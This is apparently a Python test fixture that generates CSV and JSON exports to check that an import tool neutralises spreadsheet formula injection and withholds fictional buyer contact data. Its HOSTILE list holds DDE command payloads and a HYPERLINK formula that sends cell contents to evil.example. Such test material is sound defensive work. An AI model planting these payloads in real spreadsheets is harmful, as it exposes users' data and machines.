"""A store whose exports, one of every kind, carry hostile texts in every column of text and buyers in every private one."""

import csv
import json

from opsbook.schemas import FieldType, PeriodRule, of_sheets

# Each has a mark of its own. What a spreadsheet would take for a formula, a link, a command, mark-up or its own escape.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"EVIL00")',
    "@SUM(1+1)*cmd|' /C calc EVIL01'!A0",
    "+cmd|' /C calc EVIL02'!A0",
    "-2+3+EVIL03",
    "\t=1+EVIL04",
    "\r\n=1+EVIL05",
    "{=SUM(EVIL06)}",
    "=EVIL07",
    "http://evil.example/EVIL08",
    "_x003D_1+EVIL09",
    "<f>EVIL10</f>&amp;]]>",
    "\u202e=1+EVIL11",
    "'=1+EVIL12",
    "EVIL13\x00\x07|\x1b[31m",
    "＝1+EVIL14",
    "=" + "EVIL15 " * 4000,
]
BUYERS = {
    "buyer_name": "Wilhelmina Quartermaine",
    "buyer_company": "Quartermaine Trading GmbH",
    "company": "Quartermaine Trading GmbH",
    "phone": "+49 89 5550199",
    "mobile": "+49 171 5550142",
    "email": "w.quartermaine@buyer.example",
}
SECRETS = ("Quartermaine", "quartermaine", "5550199", "5550142", "Wilhelmina", "wilhelmina")
MONTHS = ("2025-08", "2025-09", "2026-08", "2026-09")
GIVEN = {  # where a value must be one that means something
    ("orders", "status"): "已完成",
    ("order_ledger", "status"): "已完成",
    ("customers", "tier"): "KA",
    ("orders", "currency"): "USD",
    ("order_ledger", "currency"): "USD",
}


class Turns:
    """Gives the hostile texts one after another."""

    def __init__(self):
        self.given = 0

    def next(self):
        self.given += 1
        return HOSTILE[self.given % len(HOSTILE)]


def cell(schema, field, month, number, turns):
    """Return what a row of a kind holds in a column."""
    day = f"{month}-{number + 3:02d}"
    kind = field.type
    if (given := GIVEN.get((schema.kind, field.name))) is not None:
        return given
    if field.private:
        return f"{BUYERS[field.name]} {number}" if field.name != "email" else f"{number}.{BUYERS['email']}"
    if kind is FieldType.ID:
        order = f"A{month.replace('-', '')}{number}"
        return order if field.name in ("order_id", "inquiry_no") else str(1600000 + number)
    if kind is FieldType.TEXT:
        return turns.next()
    simple = {
        FieldType.FLAG: "Y",
        FieldType.DATE: day,
        FieldType.DATETIME: f"{day} 10:00:00",
        FieldType.PERIOD: month,
        FieldType.MONTH_DAY: f"{int(month[5:])}.{number + 3}",
        FieldType.PERCENT: "5%",
        FieldType.IGNORED: "",
    }
    return simple.get(kind, str(100 + 7 * number + int(month[5:])))


def write(folder):
    """Write a file of every kind for every month; return how many hostile texts were planted."""
    folder.mkdir(parents=True, exist_ok=True)
    turns = Turns()
    for schema in of_sheets():
        for month in MONTHS:
            fields = [field for field in schema.fields if not _stands_for_another(schema, field)]
            rows = [[cell(schema, field, month, number, turns) for field in fields] for number in range(4)]
            with (folder / f"{schema.kind} {month}.csv").open("w", encoding="utf-8-sig", newline="") as file:
                out = csv.writer(file)
                if schema.period is PeriodRule.FILE:
                    out.writerows([[f"产品数据, 时间周期 {month}-01~{month}-28"], [], []])
                out.writerow([field.headers[0] for field in fields])
                out.writerows(rows)
    (folder / "orders.json").write_text(json.dumps(reply()), encoding="utf-8")
    return turns.given


def reply():
    """Return a reply of the platform's assistant with buyers in every place that has them."""
    buyer = {
        "companyName": BUYERS["company"], "participantName": BUYERS["buyer_name"], "email": BUYERS["email"],
        "loginId": BUYERS["email"], "phone": BUYERS["phone"], "country": BUYERS["buyer_name"],
    }  # fmt: skip
    order = {
        "id": "234000000000000777", "createDate": f"{MONTHS[0]}-05 10:00:00", "status": {"status": "wait_seller_ship"},
        "buyer": buyer, "payment": {"totalAmount": {"amount": BUYERS["phone"], "currency": "USD"}},
        BUYERS["buyer_name"]: 1, "chat": [{"text": BUYERS["email"], "from": BUYERS["buyer_name"]}],
    }  # fmt: skip
    return {"success": True, "errorMsg": BUYERS["email"], "data": {"tradeList": [order], "totalCount": 9}}


def _stands_for_another(schema, field):
    """Whether the column would make the table another kind's, or take the place of a better one."""
    return field.type is FieldType.MONTH_DAY and schema.period_field != field.name
